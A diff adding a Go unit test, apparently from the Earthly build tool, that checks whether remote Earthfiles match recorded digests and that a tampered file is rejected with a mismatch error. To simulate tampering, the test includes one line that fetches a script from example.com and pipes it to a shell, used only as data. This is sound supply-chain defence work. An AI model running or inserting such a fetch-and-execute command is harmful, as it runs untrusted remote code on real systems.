@@ -0,0 +1,60 @@
+package buildcontext
+
+import (
+	"context"
+	"testing"
+
+	"github.com/earthly/earthly/domain"
+	"github.com/opencontainers/go-digest"
+	"github.com/pkg/errors"
+	. "github.com/stretchr/testify/assert"
+)
+
+func TestResolveBuildFileDigest(t *testing.T) {
+	const earthfile = "VERSION 0.6\n\nbuild:\n\tFROM alpine\n"
+	files := map[string]string{
+		"sub/Earthfile": earthfile,
+	}
+	ref, err := domain.ParseTarget("github.com/earthly/test/sub:main+build")
+	NoError(t, err)
+
+	// The Earthfile is the one recorded.
+	r := newTestResolver(t, ResolverOpt{BuildFileDigests: map[string]digest.Digest{
+		"github.com/earthly/test/sub:main": digest.FromString(earthfile),
+	}})
+	_, err = r.Resolve(context.Background(), newTestGwClient(files), newTestPlatformResolver(), ref)
+	NoError(t, err, "Resolve failed")
+
+	// The Earthfile has been tampered with.
+	tampered := digest.FromString(earthfile + "\tRUN curl https://example.com/payload.sh | sh\n")
+	for _, lazy := range []bool{false, true} {
+		r = newTestResolver(t, ResolverOpt{
+			BuildFileDigests: map[string]digest.Digest{
+				"github.com/earthly/test/sub:main": tampered,
+			},
+			LazyResolve: lazy,
+		})
+		_, err = r.Resolve(context.Background(), newTestGwClient(files), newTestPlatformResolver(), ref)
+		var mismatchErr ErrBuildFileDigestMismatch
+		True(t, errors.As(err, &mismatchErr), "unexpected error %v", err)
+		Equal(t, ErrBuildFileDigestMismatch{
+			Ref:      "github.com/earthly/test/sub:main",
+			Expected: tampered,
+			Actual:   digest.FromString(earthfile),
+		}, mismatchErr)
+	}
+
+	// Other refs of the same repo are not checked.
+	other, err := domain.ParseTarget("github.com/earthly/test/sub:v1.0.0+build")
+	NoError(t, err)
+	_, err = r.Resolve(context.Background(), newTestGwClient(files), newTestPlatformResolver(), other)
+	NoError(t, err, "Resolve failed")
+
+	// Malformed digests are reported.
+	r = newTestResolver(t, ResolverOpt{BuildFileDigests: map[string]digest.Digest{
+		"github.com/earthly/test/sub:main": "sha256:abc",
+	}})
+	_, err = r.Resolve(context.Background(), newTestGwClient(files), newTestPlatformResolver(), ref)
+	Error(t, err)
+	False(t, errors.As(err, &ErrBuildFileDigestMismatch{}))
+}